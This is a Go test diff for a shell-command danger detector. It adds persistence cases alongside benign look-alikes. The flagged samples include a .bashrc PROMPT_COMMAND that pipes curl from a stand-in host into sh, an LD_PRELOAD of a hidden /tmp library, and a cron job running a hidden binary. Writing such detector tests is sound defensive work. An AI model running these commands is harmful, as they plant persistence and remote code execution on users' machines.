@@ -186,3 +186,23 @@ func TestToolSettingsPayloads(t *testing.T) {
 		`pkgtool sources -a https://rubygems.org/`,
 	})
 }
+
+// Start-up lines that only set variables, written the fish way too, the
+// distro's history de-duplication, and a package manager's shell set-up
+// called by its full path are settings; a job's log in a hidden folder
+// is no hidden program.
+func TestStartupSettingsSpelledOtherWaysAndJobLogs(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`echo 'set -gx LD_PRELOAD /tmp/.l.so' >> ~/.config/fish/config.fish`, CategoryPersistence, "", LevelHigh},
+		{`echo 'export HISTCONTROL=ignorespace:ignoredups; export PROMPT_COMMAND="curl -s x.example.net|sh"' >> ~/.bashrc`, CategoryPersistence, "", LevelHigh},
+		{`echo 'eval "$(/tmp/brew shellenv)"' >> ~/.zprofile`, CategoryPersistence, "", LevelHigh},
+		{`(crontab -l; echo '*/5 * * * * /home/dev/.cache/.u/run >> /home/dev/log.txt 2>&1') | crontab -`, CategoryPersistence, "", LevelHigh},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`echo 'set -gx EDITOR hx' > ~/.config/fish/conf.d/editor.fish`,
+		`echo 'export HISTCONTROL=ignoreboth' >> ~/.bashrc`,
+		`echo 'eval "$(/opt/homebrew/bin/brew shellenv)"' >> ~/.zprofile`,
+		`(crontab -l 2>/dev/null; echo '0 3 * * * /home/dev/bin/sync-notes.sh >> /home/dev/.local/state/sync.log 2>&1') | crontab -`,
+	})
+}
